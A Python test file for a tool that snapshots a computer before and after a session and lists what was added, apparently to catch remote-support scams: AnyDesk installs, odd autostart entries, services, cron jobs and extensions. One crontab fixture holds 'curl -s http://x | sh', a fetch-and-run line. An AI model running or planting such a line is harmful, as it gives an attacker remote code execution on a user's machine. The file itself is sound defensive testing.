"""What changed since the session began: the snapshot readers (Linux on real folders and
the real dpkg database; Windows and macOS on their layouts, the registry faked at the
lowest call), the diff, and that a failing reader is recorded, never raised."""
import json
from pathlib import Path

from agent.respond.aftercare import readers_windows, snapshot


def linux_ctx(tmp_path, run=None):
    home, root = tmp_path / "home", tmp_path / "root"
    for d in (home / "Downloads", home / "Desktop", home / ".config/autostart", root / "etc/xdg/autostart"):
        d.mkdir(parents=True, exist_ok=True)
    return snapshot.Context("linux", home, {}, root, run=run or (lambda argv: (127, "")))


def write(path: Path, text: str = "x") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def chrome_ext(profile: Path, ext_id: str, name: str, version="1.0"):
    write(profile / "Extensions" / ext_id / version / "manifest.json", json.dumps({"name": name, "version": version}))


def test_linux_snapshot_and_diff(tmp_path):
    ctx = linux_ctx(tmp_path)
    write(ctx.root / "var/lib/dpkg/status", "Package: bash\nStatus: install ok installed\nVersion: 5.2\n\n"
          "Package: gone\nStatus: deinstall ok config-files\nVersion: 1\n")
    write(ctx.home / ".config/autostart/nextcloud.desktop", "[Desktop Entry]\nName=Nextcloud\n")
    write(ctx.home / "Downloads/recette.pdf")
    chrome_ext(ctx.home / ".config/chromium/Default", "aaaa", "uBlock Origin")
    before = snapshot.take(ctx)
    assert before["categories"]["programs"]["items"] == {"dpkg:bash": "bash 5.2"}
    assert before["categories"]["autostart"]["items"] == {"xdg-user:nextcloud.desktop": "Nextcloud"}
    # the session: a package, an autostart entry, a user service, a cron line, an extension, a download
    status = ctx.root / "var/lib/dpkg/status"
    status.write_text(status.read_text() + "\nPackage: anydesk\nStatus: install ok installed\nVersion: 6.3.0\n")
    write(ctx.home / ".config/autostart/helper.desktop", "[Desktop Entry]\nName=Windows Helper\nExec=/tmp/h\n")
    write(ctx.home / ".config/systemd/user/updater.service", "[Service]\nExecStart=/tmp/u\n")
    (ctx.home / ".config/systemd/user/default.target.wants").mkdir()
    (ctx.home / ".config/systemd/user/default.target.wants/updater.service").symlink_to("../updater.service")
    write(ctx.root / "etc/cron.d/refresh", "* * * * * root /tmp/r\n")
    chrome_ext(ctx.home / ".config/chromium/Default", "bbbb", "PDF Viewer Pro")
    write(ctx.home / "Desktop/Support.txt")
    write(ctx.root / "opt/anydesk/anydesk")
    changes = snapshot.diff(before, snapshot.take(ctx))
    added = {cat: list(c["added"].values()) for cat, c in changes.items() if c["added"]}
    assert added == {"programs": ["anydesk 6.3.0", "anydesk (/opt)"], "autostart": ["Windows Helper"],
                     "services": ["updater.service (default.target.wants)", "updater.service"],
                     "scheduled": ["refresh"], "extensions": ["PDF Viewer Pro (Chromium)"],
                     "files": ["Support.txt (Desktop)"]}
    assert all(not c["removed"] and not c["problems"] for c in changes.values())


def test_french_user_folders_and_firefox(tmp_path):
    ctx = linux_ctx(tmp_path)
    write(ctx.home / ".config/user-dirs.dirs", 'XDG_DOWNLOAD_DIR="$HOME/Téléchargements"\nXDG_DESKTOP_DIR="$HOME/Bureau"\n')
    write(ctx.home / "Téléchargements/AnyDesk.exe")
    write(ctx.home / ".mozilla/firefox/ab12.default/extensions.json", json.dumps({"addons": [
        {"id": "x@y", "location": "app-profile", "defaultLocale": {"name": "Coupons"}},
        {"id": "screenshots@mozilla.org", "location": "app-system-defaults", "defaultLocale": {"name": "Screenshots"}}]}))
    snap = snapshot.take(ctx)["categories"]
    assert list(snap["files"]["items"].values()) == ["AnyDesk.exe (Téléchargements)"]
    assert list(snap["extensions"]["items"].values()) == ["Coupons (Firefox)"]


def test_a_failing_reader_is_recorded_not_raised(tmp_path):
    def broken_crontab(argv):
        return 1, "crontab: your crontab file is unreadable"
    ctx = linux_ctx(tmp_path, run=broken_crontab)
    write(ctx.home / ".mozilla/firefox/p.default/extensions.json", "{ not json")
    snap = snapshot.take(ctx)
    cats = snap["categories"]
    assert cats["scheduled"]["problems"] and "unreadable" in cats["scheduled"]["problems"][0]
    assert cats["extensions"]["problems"] and "extensions.json" in cats["extensions"]["problems"][0]
    assert cats["autostart"]["problems"] == []
    later = snapshot.take(linux_ctx(tmp_path))
    assert snapshot.diff(snap, later)["scheduled"]["problems"], "a category unreadable once stays doubtful"


def test_crontab_lines(tmp_path):
    ctx = linux_ctx(tmp_path, run=lambda argv: (0, "# m h dom mon dow command\n*/5 * * * * curl -s http://x | sh\n"))
    assert list(snapshot.take(ctx)["categories"]["scheduled"]["items"].values()) == ["*/5 * * * * curl -s http://x | sh"]
    none = linux_ctx(tmp_path, run=lambda argv: (1, "no crontab for mamie\n"))
    assert snapshot.take(none)["categories"]["scheduled"]["items"] == {}


def test_real_linux_computer_is_read_cheaply():
    snap = snapshot.take()
    assert snap["os"] == "linux"
    assert all(cat in snap["categories"] for cat in snapshot.CATEGORIES)
    assert snap["categories"]["programs"]["items"], "dpkg lists this machine's packages"


class FakeRegistry:
    """The registry as ``winreg`` would give it (the lowest call of readers_windows)."""

    def __init__(self, keys: dict):
        self.keys = keys        # {(hive, path): {value: data}}

    def subkeys(self, hive, path):
        prefix = path + "\\"
        return sorted({p[len(prefix):].split("\\")[0] for h, p in self.keys if h == hive and p.startswith(prefix)})

    def values(self, hive, path):
        return dict(self.keys.get((hive, path), {}))


def test_windows_readers_on_a_fake_registry(tmp_path):
    """NOT a verification on Windows: the readers' logic on Windows' layout."""
    un, run, svc = readers_windows.UNINSTALL[0], readers_windows.RUN[0], readers_windows.SERVICES
    reg = FakeRegistry({("HKLM", un + "\\{1}"): {"DisplayName": "LibreOffice", "DisplayVersion": "24.8"},
                        ("HKLM", un + "\\KB123"): {"DisplayName": "Update", "SystemComponent": 1},
                        ("HKCU", run): {"OneDrive": "C:\\OneDrive.exe"},
                        ("HKLM", svc + "\\Spooler"): {"ImagePath": "spoolsv.exe", "Type": 0x10, "DisplayName": "Print Spooler"},
                        ("HKLM", svc + "\\disk"): {"ImagePath": "disk.sys", "Type": 1}})
    env = {"APPDATA": str(tmp_path / "Roaming"), "LOCALAPPDATA": str(tmp_path / "Local"),
           "ProgramData": str(tmp_path / "ProgramData"), "WINDIR": str(tmp_path / "Windows"),
           "USERPROFILE": str(tmp_path / "mamie")}
    write(tmp_path / "Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag")
    (tmp_path / "mamie/Downloads").mkdir(parents=True)
    ctx = snapshot.Context("windows", tmp_path / "mamie", env, reg=reg)
    before = snapshot.take(ctx)
    assert before["categories"]["programs"]["items"] == {"uninstall:HKLM:{1}": "LibreOffice 24.8"}
    assert list(before["categories"]["services"]["items"].values()) == ["Print Spooler"]
    reg.keys[("HKLM", readers_windows.UNINSTALL[1] + "\\AnyDesk")] = {"DisplayName": "AnyDesk", "DisplayVersion": "8.1"}
    reg.keys[("HKCU", run)]["Updater"] = "C:\\Users\\mamie\\AppData\\Roaming\\upd.exe"
    reg.keys[("HKLM", svc + "\\AnyDesk")] = {"ImagePath": "\"C:\\AnyDesk.exe\" --service", "Type": 0x10}
    write(tmp_path / "Windows/System32/Tasks/AnyDeskUpdate")
    write(tmp_path / "Roaming/Microsoft/Windows/Start Menu/Programs/Startup/Helper.lnk")
    chrome_ext(tmp_path / "Local/Google/Chrome/User Data/Default", "cccc", "Search Plus")
    write(tmp_path / "mamie/Downloads/AnyDesk.exe")
    changes = snapshot.diff(before, snapshot.take(ctx))
    added = {cat: sorted(c["added"].values()) for cat, c in changes.items() if c["added"]}
    assert added == {"programs": ["AnyDesk 8.1"],
                     "autostart": ["Helper.lnk (Startup)", "Updater: C:\\Users\\mamie\\AppData\\Roaming\\upd.exe"],
                     "services": ["AnyDesk"], "scheduled": ["AnyDeskUpdate"], "extensions": ["Search Plus (Chrome)"],
                     "files": ["AnyDesk.exe (Downloads)"]}


def test_windows_registry_missing_is_unreadable_not_a_crash(tmp_path):
    snap = snapshot.take(snapshot.Context("windows", tmp_path, {"USERPROFILE": str(tmp_path)}))
    assert snap["categories"]["programs"]["problems"], "no winreg here: recorded as unreadable"
    assert snap["categories"]["files"]["problems"] == []


def test_macos_readers_on_its_layout(tmp_path):
    """NOT a verification on macOS: the readers' logic on macOS's folders."""
    root, home = tmp_path / "root", tmp_path / "Users/mamie"
    (root / "Applications/Safari.app").mkdir(parents=True)
    (home / "Downloads").mkdir(parents=True)
    ctx = snapshot.Context("macos", home, {}, root, run=lambda argv: (1, "crontab: no crontab for mamie"))
    before = snapshot.take(ctx)
    (root / "Applications/AnyDesk.app").mkdir()
    write(home / "Library/LaunchAgents/com.philandro.anydesk.Frontend.plist")
    write(root / "Library/LaunchDaemons/com.philandro.anydesk.Helper.plist")
    chrome_ext(home / "Library/Application Support/Google/Chrome/Default", "dddd", "Coupons")
    changes = snapshot.diff(before, snapshot.take(ctx))
    added = {cat: sorted(c["added"].values()) for cat, c in changes.items() if c["added"]}
    assert added == {"programs": ["AnyDesk"], "autostart": ["com.philandro.anydesk.Frontend.plist"],
                     "services": ["com.philandro.anydesk.Helper.plist"], "extensions": ["Coupons (Chrome)"]}
